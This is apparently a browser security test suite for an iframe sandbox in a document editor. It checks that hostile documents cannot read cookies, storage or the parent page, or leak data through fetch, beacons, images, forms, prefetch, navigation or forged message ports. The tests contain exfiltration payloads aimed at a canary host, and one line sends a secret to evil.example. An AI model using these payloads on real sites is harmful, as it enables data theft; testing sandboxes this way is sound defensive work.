import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';

import { hostileDocument, runInFrame, runUnprotected } from './attacker.ts';
import { Desk, PATIENCE, startBench } from './harness.ts';
import type { Bench } from './harness.ts';

let bench: Bench;
let desk: Desk;

beforeAll(async () => {
  bench = await startBench();
});
afterAll(() => bench.close());
beforeEach(async () => {
  desk = await Desk.open(bench);
  bench.canary.hits.length = 0;
  bench.apiHits.length = 0;
});
afterEach(() => desk.close());

const hostile = (script: string): string => hostileDocument(bench, script);
const control = (script: string): Promise<string> => runUnprotected(bench, desk, script);
const attack = (script: string): Promise<string> => runInFrame(bench, desk, script);

describe('what a document may not read', () => {
  test.each([
    ['cookies', 'return document.cookie||"empty"', /secret=word/],
    ['local storage', 'localStorage.x="1";return "leaked "+localStorage.x', /leaked/],
    ["the parent's document", 'return "leaked "+parent.document.title', /leaked/],
    [
      'databases',
      'return new Promise((y,n)=>{const r=indexedDB.open("x");r.onsuccess=()=>y("leaked");r.onerror=()=>n(r.error)})',
      /leaked/,
    ],
  ])('%s', async (_name, script, leak) => {
    expect(await control(script)).toMatch(leak);
    const told = await attack(script);
    expect(told).not.toMatch(leak);
    expect(told).toMatch(/^stopped/);
  });
});

describe('what a document may not send', () => {
  const wait = 'await new Promise((y)=>setTimeout(y,400));';
  test.each([
    ['fetch', `await fetch(C+'/x?d=1',{mode:'no-cors'}).catch(()=>0);${wait}`],
    [
      'beacon and request',
      `navigator.sendBeacon(C+'/x','d');const r=new XMLHttpRequest();r.open('GET',C+'/x');try{r.send()}catch{};${wait}`,
    ],
    ['image', `new Image().src=C+'/x?d=1';${wait}`],
    [
      'style sheet and font',
      `const s=document.createElement('style');s.textContent='@import url('+C+'/x.css);body{background:url('+C+'/y.png)}';document.documentElement.append(s);${wait}`,
    ],
    [
      'script and worker',
      `const s=document.createElement('script');s.src=C+'/x.js';document.documentElement.append(s);try{new Worker(C+'/w.js')}catch{};${wait}`,
    ],
    [
      'a frame of its own',
      `const f=document.createElement('iframe');f.src=C+'/x';document.documentElement.append(f);${wait}`,
    ],
    [
      'a form',
      `const f=document.createElement('form');f.method='post';f.action=C+'/x';f.target='_blank';const g=document.createElement('iframe');g.name='g';document.documentElement.append(f,g);f.target='g';f.submit();${wait}`,
    ],
    ['a window', `window.open(C+'/x?d=1');${wait}`],
    [
      'prefetch',
      `for(const rel of['preload','prefetch','modulepreload','preconnect','dns-prefetch']){const l=document.createElement('link');l.rel=rel;l.href=C+'/x';l.as='script';document.head.append(l)};${wait}`,
    ],
  ])('%s', async (name, script) => {
    await control(script);
    if (name !== 'a window') expect(bench.canary.hits, 'the attack works where nothing protects').not.toEqual([]);
    bench.canary.hits.length = 0;
    await attack(script);
    expect(bench.canary.hits).toEqual([]);
  });

  test.each([
    ['location', "location.href=C+'/x?d=1'"],
    ['replace', "location.replace(C+'/x?d=1')"],
    [
      'a click on a link',
      "const a=document.createElement('a');a.href=C+'/x?d=1';document.documentElement.append(a);a.click()",
    ],
    [
      'refresh',
      "const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+C+'/x';document.head.append(m)",
    ],
    ["the host's own API", "location.href=A+'/v1/wips/x/delete'"],
  ])('itself, by %s', async (_name, script) => {
    const code = `${script};await new Promise((y)=>setTimeout(y,600))`;
    await control(code);
    expect(bench.canary.hits.length + bench.apiHits.length).toBeGreaterThan(0);
    bench.canary.hits.length = bench.apiHits.length = 0;
    await desk.show(hostile(code));
    await desk.page.waitForFunction(
      () => window.page.seen.some(([name]) => name === 'onEdits' || name === 'onLost'),
      null,
      { timeout: 20_000 },
    );
    expect([...bench.canary.hits, ...bench.apiHits]).toEqual([]);
  });

  test('the whole page, with and without a click', async () => {
    await desk.show(
      hostile(
        "document.onclick=()=>{try{top.location=C+'/x?click'}catch{}};try{top.location=C+'/x'}catch(e){return 'stopped '+e.name}",
      ),
    );
    await desk.value('out', 'stopped SecurityError');
    await desk.frame.locator('#out').click();
    await desk.frame.locator('#go').click();
    await desk.page.waitForFunction(() => document.title === 'Host');
    expect(bench.canary.hits).toEqual([]);
    expect(desk.page.url()).toBe(`${bench.origin}/`);
  });

  test('dialogs of the browser', async () => {
    const dialogs: string[] = [];
    desk.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await attack("alert('x');return 'asked '+prompt('x')+confirm('x')");
    expect(dialogs).toEqual([]);
  });
});

test('on a host that sends no headers the sandbox and the policy of the file itself hold', async () => {
  await desk.page.goto(`${bench.origin}/static/`);
  await desk.show(
    hostile(`new Image().src=C+'/i';await fetch(C+'/f',{mode:'no-cors'}).catch(()=>0);const s=document.createElement('script');s.src=C+'/s';
      document.documentElement.append(s);await new Promise((y)=>setTimeout(y,400));return document.cookie`),
    'edit',
    '/static',
  );
  await desk.value('out', 'stopped SecurityError');
  expect(bench.canary.hits).toEqual([]);
});

describe('messages', () => {
  test('a forged or repeated handshake changes nothing', async () => {
    await desk.show('<p class="editable" id="a">x</p>');
    await desk.page.evaluate(() => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => window.page.seen.push(['forged', null]);
      window.page.host?.iframe.contentWindow?.postMessage(
        { type: 'ready:init', v: 1, mode: 'edit', newAttributesFunction: 'x' },
        '*',
        [port2],
      );
      window.postMessage({ type: 'ready:frame-loaded', v: 1 }, '*');
    });
    expect((await desk.snapshot()).values).toEqual([['a', 'x']]);
    expect(await desk.seen('forged')).toEqual([]);
    expect(await desk.seen('onLost')).toEqual([]);
  });

  test('a captured port can forge messages, but no address that is not safe and nothing over the caps', async () => {
    await desk.show(
      hostile(`const post=MessagePort.prototype.postMessage;let port;MessagePort.prototype.postMessage=function(m){port=this;post.call(this,m)};
        tell('first');await new Promise((y)=>setTimeout(y,200));
        for(const m of[{type:'open-link',href:'javascript:alert(1)',where:'top'},{type:'open-link',href:'https://evil.example/?d='+'secret',where:'top'},
        {type:'ready',title:'again',values:[]},{type:'edits',seq:1,changes:[['a'.repeat(300),'x']]},{type:'hello',v:1}])post.call(port,m);`),
    );
    expect(await desk.event('onOpenLink')).toEqual({
      href: 'https://evil.example/?d=secret',
      where: 'top',
      isKnown: false,
    });
    expect(await desk.seen('onReady')).toHaveLength(1);
    expect(await desk.seen('onMisbehaved')).toEqual([]);
  });

  test('a flood removes the frame and leaves the page alive', async () => {
    await desk.page.evaluate(
      (html) => window.page.open(html, 'edit'),
      '<p class="editable" id="a">x</p><script>for(let n=0;n<5000;n++)parent.postMessage({n},"*")</script>',
    );
    await desk.event('onMisbehaved');
    expect(await desk.page.locator('iframe').count()).toBe(0);
    expect(await desk.page.evaluate(() => document.title)).toBe('Host');
  });
});

describe('a document that does not answer', () => {
  test('is told as lost, and as found when it answers again', async () => {
    await desk.show(hostile('const end=performance.now()+9000;while(performance.now()<end);'));
    await desk.page.waitForFunction(() => window.page.seen.some(([name]) => name === 'onLost'), null, {
      timeout: 20_000,
    });
    await desk.page.locator('#own').fill('the page lives');
    expect(await desk.seen('onFound')).toEqual([]);
    await desk.page.waitForFunction(() => window.page.seen.some(([name]) => name === 'onFound'), null, {
      timeout: 20_000,
    });
  });

  test('one that reloads itself is told as lost', async () => {
    await desk.show(hostile('location.reload();await new Promise(()=>{})'));
    expect(await desk.seen('onReady')).toHaveLength(1);
    await desk.page.waitForFunction(() => window.page.seen.some(([name]) => name === 'onLost'), null, {
      timeout: 20_000,
    });
  });

  test('errors and missing files of a document are its own', async () => {
    await desk.show(`<link rel="stylesheet" href="/none.css"><script src="/none.js"></script><img src="https://none.example/x.png">
      <script>throw new Error('mine')</script><script>syntax error</script><p class="editable" id="a">x</p>`);
    expect(await desk.values()).toEqual({ a: 'x' });
    // The browser reports a frame's errors as the page's; ours come from the host's script.
    expect(desk.errors.filter((message) => !/mine|Unexpected identifier/.test(message))).toEqual([]);
  });
});

test('a newer live document takes the place of the older one when it is ready, at the same scroll place', async () => {
  const live = (text: string): string => `<p class="editable" id="a">${text}</p><div style="height:3000px"></div>`;
  await desk.page.evaluate((html) => window.page.openStage(html), live('first'));
  await desk.event('onReady');
  const first = desk.frame.locator('#a');
  await desk.frame.locator('html').evaluate(() => window.scrollTo(0, 700));
  await desk.page.evaluate(() => {
    new MutationObserver(() => {
      const shown = [...document.querySelectorAll('iframe')].filter(
        (frame) => getComputedStyle(frame).visibility === 'visible',
      );
      window.page.seen.push(['shown', shown.length]);
    }).observe(document.body, { childList: true, subtree: true, attributes: true });
  });
  await desk.page.evaluate((html) => window.page.openStage(html), live('second'));
  await desk.event('onReady', 2);
  await expect.poll(() => first.textContent(), PATIENCE).toBe('second');
  await expect.poll(() => desk.frame.locator('html').evaluate(() => window.scrollY), PATIENCE).toBe(700);
  expect(await desk.seen('shown')).not.toContain(0);
  expect(await desk.page.locator('iframe').count()).toBe(1);
});

test('printing takes a frame of its own, with what was typed and a note, and leaves nothing behind', async () => {
  const said: string[] = [];
  desk.page.on('console', (message) => said.push(message.text()));
  const html = `<p class="editable" id="a">old</p><script>window.print=()=>console.log('PRINT',document.body.innerText.trim(),
    [...document.adoptedStyleSheets].map((s)=>[...s.cssRules].map((r)=>r.cssText).join()).join().includes('Not submitted'))</script>`;
  await desk.page.evaluate((text) => window.page.print(text, [['a', 'typed']], 'Not submitted'), html);
  await expect.poll(() => said, PATIENCE).toEqual(['PRINT typed true']);
  await expect.poll(() => desk.page.locator('iframe').count(), PATIENCE).toBe(0);
});

test('the frame alone in a tab shows a notice', async () => {
  await desk.page.goto(`${bench.origin}/frame.html`);
  expect(await desk.page.textContent('body')).toContain('inside Ready');
});
